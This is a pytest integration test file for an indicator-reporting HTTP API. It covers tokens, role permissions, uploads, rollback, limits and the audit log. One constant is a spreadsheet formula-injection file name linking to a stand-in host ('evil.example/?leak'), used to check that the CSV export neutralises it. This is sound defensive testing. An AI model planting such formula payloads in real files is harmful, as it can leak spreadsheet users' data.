"""The HTTP API under /api/v1 against a RUNNING server (``streamlit run sac/server.py``, as `make run` serves it) on a
copy of the demo database, called with urllib as another system would.

One server for the module (SAC_MAX_UPLOAD_MB=1, so the oversized upload needs no server of its own). The server
holds the database file only while it writes, so this process makes and revokes tokens with sac.api.tokens and
reads the audit log from the file while it runs.
"""

from __future__ import annotations

import csv
import datetime as dt
import http.client
import io
import json
import shutil
import time
import urllib.error
import urllib.parse
import urllib.request
from dataclasses import dataclass, field

import pytest
from browser import streamlit_server
from openpyxl import Workbook

from sac.api import tokens
from sac.api.endpoints import ENDPOINTS
from sac.ingest import import_file
from sac.metrics import plan_fact as pf
from sac.store import Store
from sac.views import rating as rating_views

ROLES = {"admin": ("admin", ()), "analyst": ("analyst", ()), "leadership": ("leadership", ()),
         "office": ("project_office", ("75",))}   # the Almaty project office, as the demo account 'office'
ALMATY_Q4 = [  # (indicator, source document, fact): Almaty's Q4 2026 facts; the rows hold plans only so far
    ("UNEMP", "MLSP Strategic Plan 2020-2024", 4.4),
    ("UNEMP_F", "MLSP Strategic Plan 2020-2024", 4.0),
    ("UNEMP_Y", "MLSP Strategic Plan 2020-2024", 3.3),
]
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak","click").csv'


def almaty_q4_xlsx() -> bytes:
    """The file as a project office keeps it: a title row above a Russian header, one row per indicator."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Q4"
    ws.append(["г. Алматы: факт КНИ за 4 квартал 2026"])
    ws.append(["Показатель", "Регион", "Период", "Документ", "Факт"])
    for ind, doc, fact in ALMATY_Q4:
        ws.append([ind, "75", "2026-Q4", doc, fact])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@dataclass
class Api:
    url: str
    tokens: dict[str, str]
    db: object
    expected: dict = field(default_factory=dict)

    def call(self, method: str, path: str, who: str | None = None, *, body: bytes | None = None,
             headers: dict | None = None, params: dict | None = None):
        if params:
            path += ("&" if "?" in path else "?") + urllib.parse.urlencode(params)
        h = dict(headers or {})
        if who is not None:
            h["Authorization"] = f"Bearer {self.tokens.get(who, who)}"
        req = urllib.request.Request(self.url + path, data=body, method=method, headers=h)
        try:
            with urllib.request.urlopen(req, timeout=60) as r:
                return Answer(r.status, dict(r.headers), r.read())
        except urllib.error.HTTPError as e:
            return Answer(e.code, dict(e.headers), e.read())


@dataclass
class Answer:
    status: int
    headers: dict
    raw: bytes

    @property
    def json(self):
        assert self.headers.get("content-type", "").startswith("application/json"), self.raw[:300]
        return json.loads(self.raw)

    @property
    def error(self) -> str:
        return self.json["error"]["code"]


def _eventually(fn, timeout: float = 10.0):
    """What ``fn`` returns once it is truthy (a commit is visible to readers within seconds, not always at once)."""
    deadline = time.monotonic() + timeout
    while True:
        out = fn()
        if out or time.monotonic() > deadline:
            return out
        time.sleep(0.3)


@pytest.fixture(scope="module")
def api(demo_db_path, tmp_path_factory):
    from sac import methodology

    db = tmp_path_factory.mktemp("api") / "sac.duckdb"
    shutil.copy(demo_db_path, db)
    made = {}
    with Store(db) as s:
        for name, (role, units) in ROLES.items():
            made[name] = tokens.create_token(s, "test", f"{name}-svc", role, units)
        made["revoked"] = tokens.create_token(s, "test", "revoked-svc", "admin")
        tokens.revoke_token(s, "test", "revoked-svc")
        made["expired"] = tokens.create_token(s, "test", "expired-svc", "admin", expires_days=1,
                                              now=dt.datetime(2020, 1, 1))
        # a methodology version 2 (a project setting changed, nothing the rating uses): the rating must name the
        # stored version, not the default 1
        version = methodology.save_new_version(s, {"projects": {"ev_red": 0.79}}, "test", "v2 for the API")
        expected = {"version": version,
                    "dry_run": import_file(s, almaty_q4_xlsx(), "indicator_values", file_name="almaty_q4.xlsx",
                                           user="token:office-svc", allowed_units={"75", "PO-ADC", "AKM-75"})}
    # API call entries are written in batches: every 0.3 s here
    with streamlit_server({"SAC_DB_PATH": str(db), "SAC_MAX_UPLOAD_MB": "1", "SAC_API_AUDIT_SECONDS": "0.3"}) as url:
        yield Api(url, made, db, expected)


def test_docs_name_every_route_and_every_error_code():
    """docs/API.md is written by hand: it must still name what the route table serves."""
    from pathlib import Path

    from sac.api.spec import ERRORS

    doc = (Path(__file__).resolve().parent.parent / "docs" / "API.md").read_text(encoding="utf-8")
    for e in ENDPOINTS:
        assert f"`{e.method} /api/v1{e.path}" in doc, e.path
    for code, (status, _) in ERRORS.items():
        assert f"| {status} | `{code}` |" in doc, code


# -- the description and who you are -----------------------------------------------------------------------------
def test_openapi_is_public_and_describes_every_route_of_the_table(api):
    doc = api.call("GET", "/api/v1/openapi.json").json
    assert doc["openapi"] == "3.1.0"
    routes = {(m.upper(), p) for p, ops in doc["paths"].items() for m in ops}
    assert routes == {(e.method, "/api/v1" + e.path) for e in ENDPOINTS}
    ratings = doc["paths"]["/api/v1/ratings"]["get"]
    assert {p["name"] for p in ratings["parameters"]} == {"period", "kind", "set", "aggregation", "format"}
    assert "methodology_version" in ratings["responses"]["200"]["content"]["application/json"]["schema"][
        "properties"]["data"]["items"]["properties"]
    assert set(doc["paths"]["/api/v1/uploads"]["post"]["responses"]) >= {"200", "400", "401", "403", "413", "422"}


@pytest.mark.parametrize("who, role, units, may", [
    ("admin", "admin", [], {"upload", "rollback", "manage_users"}),
    ("leadership", "leadership", [], {"view", "export"}),
    ("office", "project_office", ["75"], {"view", "upload"}),
])
def test_me_is_the_tokens_role_units_and_permissions(api, who, role, units, may):
    me = api.call("GET", "/api/v1/me", who).json
    assert (me["username"], me["role"], me["source"], me["units"]) == (f"token:{who}-svc", role, "token", units)
    assert may <= set(me["permissions"])
    assert me["expires_at"] > "2026"
    if who == "office":   # its region and the region's organisations (the office and the akimat)
        assert {"75", "PO-ADC", "AKM-75"} <= set(me["allowed_units"]) and "71" not in me["allowed_units"]
    if who == "leadership":
        assert not {"upload", "rollback"} & set(me["permissions"])


@pytest.mark.parametrize("header, code", [
    (None, "unauthenticated"),
    ("Basic YWRtaW46YWRtaW4tZGVtbw==", "unauthenticated"),
    ("Bearer sac_not-a-real-token", "invalid_token"),
    ("revoked", "invalid_token"),
    ("expired", "invalid_token"),
])
def test_no_bad_revoked_or_expired_token_is_401(api, header, code):
    headers = {}
    if header in ("revoked", "expired"):
        headers["Authorization"] = f"Bearer {api.tokens[header]}"
    elif header:
        headers["Authorization"] = header
    r = api.call("GET", "/api/v1/ratings", headers=headers)
    assert (r.status, r.error) == (401, code)
    assert r.headers["www-authenticate"].startswith("Bearer")
    if header in ("revoked", "expired"):
        assert header in r.json["error"]["message"]


# -- reading ---------------------------------------------------------------------------------------------------------
def test_indicators_are_the_passports(api, demo_store):
    body = api.call("GET", "/api/v1/indicators", "leadership").json
    assert body["count"] == demo_store.scalar("SELECT count(*) FROM indicators") == len(body["data"])
    unemp = next(r for r in body["data"] if r["indicator_id"] == "UNEMP")
    assert (unemp["name_en"], unemp["periodicity"], unemp["direction"], unemp["unit_of_measure"]) == (
        "Unemployment rate", "quarter", "down", "%")


def test_values_of_one_region_in_a_period_range(api, demo_store):
    body = api.call("GET", "/api/v1/indicators/UNEMP/values", "analyst",
                    params={"unit": "71", "from": "2024-Q1", "to": "2024"}).json
    expected = demo_store.df("SELECT period, plan, fact FROM indicator_values WHERE indicator_id = 'UNEMP' "
                             "AND unit_code = '71' AND period LIKE '2024%' ORDER BY period")
    got = sorted((r["period"], r["plan"], r["fact"]) for r in body["data"])
    assert got == sorted(expected.itertuples(index=False, name=None)) and len(got) >= 4
    assert {r["unit_name_en"] for r in body["data"]} == {"Astana"}
    assert body["data"][0]["start_date"] == "2024-01-01"
    assert api.call("GET", "/api/v1/indicators/NO_SUCH/values", "analyst").error == "not_found"


def test_plan_fact_of_a_period_is_the_metrics_plan_fact(api, demo_store):
    body = api.call("GET", "/api/v1/plan-fact", "leadership", params={"period": "2025", "unit": "75"}).json
    expected = pf.plan_fact(demo_store, "2025", unit_codes=["75"])
    assert body["count"] == len(expected) > 20 and body["period"] == "2025"
    got = {r["indicator_id"]: (r["rag"], r["score"]) for r in body["data"]}
    exp = {r.indicator_id: (r.rag, None if r.score != r.score else r.score) for r in expected.itertuples()}
    assert got == exp
    assert {r["methodology_version"] for r in body["data"]} == {api.expected["version"]}


def test_rating_has_the_twenty_regions_and_its_methodology_version(api, demo_store):
    body = api.call("GET", "/api/v1/ratings", "leadership", params={"period": "2025"}).json
    assert body["count"] == 20 and len({r["unit_code"] for r in body["data"]}) == 20
    assert body["methodology_version"] == api.expected["version"] == 2
    assert {r["methodology_version"] for r in body["data"]} == {2}
    expected = rating_views.rating_table(demo_store, "2025")
    exp = dict(zip(expected["unit_code"], expected["rank"].astype("Float64").fillna(-1), strict=True))
    assert {r["unit_code"]: (r["rank"] if r["rank"] is not None else -1) for r in body["data"]} == exp
    assert body["data"][0]["rank"] == 1 and body["rated"] == int(expected["rated"].sum())


def test_csv_format_is_a_spreadsheet_table(api):
    r = api.call("GET", "/api/v1/ratings", "analyst", params={"period": "2025", "format": "csv"})
    assert r.status == 200 and r.headers["content-type"].startswith("text/csv")
    assert 'filename="rating_2025_plan_fulfilment.csv"' in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.raw.decode("utf-8-sig"))))
    assert len(rows) == 20 and {row["methodology_version"] for row in rows} == {"2"}


# -- writing ---------------------------------------------------------------------------------------------------------
def test_dry_run_of_a_real_file_reports_what_the_engine_reports_and_writes_nothing(api):
    before = api.call("GET", "/api/v1/batches", "office", params={"limit": 1000}).json["count"]
    r = api.call("POST", "/api/v1/uploads", "office", body=almaty_q4_xlsx(),
                 params={"kind": "indicator_values", "filename": "almaty_q4.xlsx"})
    rep, engine = r.json, api.expected["dry_run"]
    assert r.status == 200 and rep["status"] == "dry_run" and rep["ok"]
    assert rep["counts"] == engine.counts() and rep["counts"]["updated"] == 3
    assert rep["header_row"] == engine.header_row == 2
    assert rep["columns"] == {"Показатель": "indicator_id", "Регион": "unit_code", "Период": "period",
                              "Документ": "source_document", "Факт": "fact"}
    assert api.call("GET", "/api/v1/batches", "office", params={"limit": 1000}).json["count"] == before


def test_office_commits_reads_its_values_back_cannot_roll_back_and_an_analyst_can(api):
    r = api.call("POST", "/api/v1/uploads", "office", body=almaty_q4_xlsx(),
                 params={"kind": "indicator_values", "filename": "almaty_q4.xlsx", "dry_run": "false"})
    assert r.status == 201 and r.json["status"] == "committed"
    batch = r.json["batch_id"]

    def q4_facts():
        rows = api.call("GET", "/api/v1/indicators/UNEMP/values", "office",
                        params={"unit": "75", "from": "2026-Q4", "to": "2026-Q4"}).json["data"]
        return {(x["fact"], x["batch_id"]) for x in rows} if rows and rows[0]["fact"] is not None else None

    assert _eventually(q4_facts) == {(4.4, batch)}
    mine = api.call("GET", "/api/v1/batches", "office").json["data"]
    assert mine[0]["batch_id"] == batch and mine[0]["uploaded_by"] == "token:office-svc"
    assert {b["uploaded_by"] for b in mine} <= {"token:office-svc", "PO-ADC", "AKM-75"}   # not other regions'

    assert api.call("POST", f"/api/v1/batches/{batch}/rollback", "office").error == "forbidden"
    assert api.call("POST", f"/api/v1/batches/{batch}/rollback", "leadership").status == 403
    done = api.call("POST", f"/api/v1/batches/{batch}/rollback", "analyst")
    assert done.status == 200 and done.json == {"batch_id": batch, "restored": 3, "deleted": 0}
    assert _eventually(lambda: q4_facts() is None)
    again = api.call("POST", f"/api/v1/batches/{batch}/rollback", "analyst")
    assert again.status == 409 and again.error == "rollback_refused"
    assert api.call("POST", "/api/v1/batches/99999/rollback", "admin").error == "not_found"


def test_commit_with_errors_is_422_with_the_report_and_writes_nothing(api):
    text = b"indicator;region;period;fact\nUNEMP;75;2026-Q4;4.4\nNO_SUCH;75;2026-Q4;1\n"
    r = api.call("POST", "/api/v1/uploads", "analyst", body=text,
                 params={"kind": "indicator_values", "filename": "bad.csv", "dry_run": "false"})
    assert r.status == 422 and r.error == "upload_rejected"
    report = r.json["error"]["report"]
    assert report["status"] == "rejected" and report["counts"]["rejected"] == 1
    assert [p["row"] for p in report["problems"] if p["severity"] == "error"] == [3]


# -- refusals by role --------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("path, params", [
    ("/api/v1/indicators/UNEMP/values", {"unit": "71"}),
    ("/api/v1/plan-fact", {"period": "2025", "unit": "71"}),
])
def test_office_cannot_read_another_region(api, path, params):
    r = api.call("GET", path, "office", params=params)
    assert (r.status, r.error) == (403, "forbidden") and "71" in r.json["error"]["message"]


def test_office_reads_only_its_own_units_without_asking(api):
    values = api.call("GET", "/api/v1/indicators/UNEMP/values", "office", params={"from": "2025", "to": "2025"}).json
    assert values["count"] > 0 and {r["unit_code"] for r in values["data"]} == {"75"}
    pf_rows = api.call("GET", "/api/v1/plan-fact", "office", params={"period": "2025"}).json["data"]
    assert pf_rows and {r["unit_code"] for r in pf_rows} <= {"75", "PO-ADC", "AKM-75"}
    rating = api.call("GET", "/api/v1/ratings", "office", params={"period": "2025"}).json
    assert [r["unit_code"] for r in rating["data"]] == ["75"] and rating["units"] == 20


def test_office_cannot_upload_another_regions_rows_or_reference_data(api):
    text = b"indicator;region;period;fact\nUNEMP;75;2026-Q4;4.4\nUNEMP;71;2026-Q4;3.9\n"
    r = api.call("POST", "/api/v1/uploads", "office", body=text, params={"kind": "indicator_values"})
    assert r.status == 200 and not r.json["ok"]
    assert [(p["row"], p["code"]) for p in r.json["problems"] if p["severity"] == "error"] == [(3, "unit_not_allowed")]
    ref = api.call("POST", "/api/v1/uploads", "office", body=b"code;name\nX;Y\n", params={"kind": "indicators"})
    assert (ref.status, ref.error) == (403, "forbidden")


@pytest.mark.parametrize("dry_run", ["true", "false"])
def test_leadership_reads_but_never_writes(api, dry_run):
    r = api.call("POST", "/api/v1/uploads", "leadership", body=almaty_q4_xlsx(),
                 params={"kind": "indicator_values", "dry_run": dry_run})
    assert (r.status, r.error) == (403, "forbidden")
    assert api.call("GET", "/api/v1/batches", "leadership", params={"limit": 1}).status == 200


# -- malformed requests, limits, hostile text -------------------------------------------------------------------------
@pytest.mark.parametrize("method, path, params, body, fragment", [
    ("GET", "/api/v1/ratings", {"perod": "2025"}, None, "unknown query parameter 'perod'"),
    ("GET", "/api/v1/ratings", {"period": "last year"}, None, "period code"),
    ("GET", "/api/v1/ratings", {"period": "1850"}, None, "no period '1850'"),
    ("GET", "/api/v1/ratings", {"kind": "best"}, None, "must be one of"),
    ("GET", "/api/v1/ratings", {"set": "NOPE"}, None, "no indicator set"),
    ("GET", "/api/v1/batches", {"limit": "ten"}, None, "must be an integer"),
    ("GET", "/api/v1/batches", {"limit": "0"}, None, "between 1"),
    ("POST", "/api/v1/batches/x/rollback", None, None, "'batch_id' must be an integer"),
    ("POST", "/api/v1/uploads", {"dry_run": "true"}, b"a;b\n", "'kind' is required"),
    ("POST", "/api/v1/uploads", {"kind": "indicator_values", "dry_run": "maybe"}, b"a;b\n", "true or false"),
    ("POST", "/api/v1/uploads", {"kind": "indicator_values"}, None, "body is empty"),
    ("GET", "/api/v1/ratings?period=2025&period=2024", None, None, "given twice"),
])
def test_a_malformed_request_is_400_with_a_message(api, method, path, params, body, fragment):
    r = api.call(method, path, "admin", params=params, body=body)
    assert (r.status, r.error) == (400, "bad_request")
    assert fragment in r.json["error"]["message"]


def test_a_file_that_is_not_one_is_a_report_never_a_traceback(api):
    r = api.call("POST", "/api/v1/uploads", "admin", body=b"PK\x03\x04 this is no workbook" * 10,
                 params={"kind": "indicator_values", "filename": "broken.xlsx"})
    assert r.status == 200 and not r.json["ok"] and r.json["problems"][0]["row"] is None
    assert b"Traceback" not in r.raw


def test_oversized_upload_is_refused_by_its_length_before_it_is_sent(api):
    host, port = urllib.parse.urlsplit(api.url).hostname, urllib.parse.urlsplit(api.url).port
    conn = http.client.HTTPConnection(host, port, timeout=20)
    conn.putrequest("POST", "/api/v1/uploads?kind=indicator_values")
    conn.putheader("Authorization", f"Bearer {api.tokens['analyst']}")
    conn.putheader("Content-Length", str(50 * 2**20))
    conn.endheaders()                      # not one byte of the 50 MB follows
    resp = conn.getresponse()
    body = json.loads(resp.read())
    assert resp.status == 413 and body["error"]["code"] == "payload_too_large" and "1 MB" in body["error"]["message"]
    conn.close()


def test_oversized_upload_without_a_length_is_counted_while_it_streams(api):
    host, port = urllib.parse.urlsplit(api.url).hostname, urllib.parse.urlsplit(api.url).port
    conn = http.client.HTTPConnection(host, port, timeout=20)
    chunk = b"UNEMP;75;2026-Q4;4.4\n" * 3000           # 63 000 bytes
    try:
        conn.request("POST", "/api/v1/uploads?kind=indicator_values", body=(chunk for _ in range(20)),
                     headers={"Authorization": f"Bearer {api.tokens['analyst']}"}, encode_chunked=True)
    except (BrokenPipeError, ConnectionResetError):
        pass   # the server answered and closed before the rest was sent: what we want; the answer is read below
    resp = conn.getresponse()
    assert resp.status == 413 and json.loads(resp.read())["error"]["code"] == "payload_too_large"
    conn.close()


def test_csv_neutralises_a_hostile_cell_and_json_keeps_it_as_sent(api):
    text = "indicator;region;period;document;fact\nTREES;71;2026-Q4;Regional development plans 2021-2025;250\n"
    r = api.call("POST", "/api/v1/uploads", "analyst", body=text.encode(),
                 params={"kind": "indicator_values", "filename": HOSTILE_NAME, "dry_run": "false"})
    assert r.status == 201
    as_json = _eventually(lambda: [b for b in api.call("GET", "/api/v1/batches", "admin").json["data"]
                                   if b["batch_id"] == r.json["batch_id"]])
    assert as_json[0]["file_name"] == HOSTILE_NAME
    out = api.call("GET", "/api/v1/batches", "admin", params={"format": "csv", "status": "committed"})
    rows = list(csv.DictReader(io.StringIO(out.raw.decode("utf-8-sig"))))
    mine = next(row for row in rows if row["batch_id"] == str(r.json["batch_id"]))
    assert mine["file_name"] == "'" + HOSTILE_NAME
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values() if v)


@pytest.mark.parametrize("method, path, status, code", [
    ("GET", "/api/v1/boards", 404, "not_found"),
    ("GET", "/api/v1/", 404, "not_found"),
    ("GET", "/api/v1", 404, "not_found"),
    ("GET", "/api/v1/ratings/", 404, "not_found"),
    ("DELETE", "/api/v1/batches", 405, "method_not_allowed"),
])
def test_unknown_route_or_method_is_a_json_error(api, method, path, status, code):
    r = api.call(method, path, "analyst")
    assert (r.status, r.error) == (status, code)


def test_an_unexpected_failure_is_a_json_500_without_its_text(tmp_path, monkeypatch):
    """In process (a running server has no handler that fails on purpose): the wrapper every route goes through,
    called as an ASGI app."""
    import asyncio

    from starlette.applications import Starlette
    from starlette.routing import Route

    from sac.api import calls
    from sac.api.app import handler_for
    from sac.api.spec import Endpoint

    monkeypatch.setenv("SAC_DB_PATH", str(tmp_path / "sac.duckdb"))

    def boom(call):
        raise RuntimeError("SELECT secret FROM /etc/passwd")

    app = Starlette(routes=[Route("/boom", handler_for(Endpoint("GET", "/boom", boom, "fails", public=True)))])
    sent = []

    async def receive():
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message):
        sent.append(message)

    scope = {"type": "http", "method": "GET", "path": "/boom", "raw_path": b"/boom", "query_string": b"",
             "headers": [], "http_version": "1.1", "scheme": "http", "server": ("test", 80),
             "client": ("test", 1), "root_path": ""}
    asyncio.run(app(scope, receive, send))
    status = sent[0]["status"]
    body = b"".join(m.get("body", b"") for m in sent[1:])
    assert status == 500 and json.loads(body)["error"]["code"] == "internal"
    assert b"secret" not in body and b"Traceback" not in body
    assert calls.CALLS.flush() >= 1   # written to this test's database, not left for the exit


# -- revocation and the audit log ---------------------------------------------------------------------------------------
def test_a_token_revoked_while_the_server_runs_is_refused_at_its_next_call(api):
    with Store(api.db) as s:
        token = tokens.create_token(s, "test", "short-lived", "analyst")
    assert api.call("GET", "/api/v1/me", token).status == 200
    with Store(api.db) as s:
        tokens.revoke_token(s, "test", "short-lived")
    r = api.call("GET", "/api/v1/me", token)
    assert (r.status, r.error) == (401, "invalid_token") and "revoked" in r.json["error"]["message"]


def test_every_call_is_audited_with_who_endpoint_and_status_and_never_the_token(api):
    api.call("GET", "/api/v1/me", "leadership")
    api.call("GET", "/api/v1/me", headers={"Authorization": f"Bearer {api.tokens['revoked']}"})
    api.call("POST", "/api/v1/uploads", "leadership", body=b"x", params={"kind": "indicator_values"})
    api.call("GET", "/api/v1/nowhere", "office")
    wanted = {("token:leadership-svc", "GET /api/v1/me", 200), ("anonymous", "GET /api/v1/me", 401),
              ("token:leadership-svc", "POST /api/v1/uploads", 403), ("token:office-svc", "GET (no route)", 404)}

    def read():
        with Store(api.db, read_only=True) as s:
            log = s.df("SELECT actor, target, details FROM audit_log WHERE action = 'api_call' ORDER BY entry_id")
            used = s.df("SELECT name, last_used_at FROM service_tokens ORDER BY name")
            everything = s.df("SELECT * FROM audit_log").to_csv()
        calls = {(a, t, json.loads(d)["status"]) for a, t, d in log.itertuples(index=False)}
        return (calls, used, everything) if wanted <= calls else None

    calls, used, everything = _eventually(read)
    assert len(calls) >= 20
    last_used = dict(zip(used["name"], used["last_used_at"].notna(), strict=True))
    assert last_used["leadership-svc"] and not last_used["expired-svc"]
    assert not any(t in everything for t in api.tokens.values())
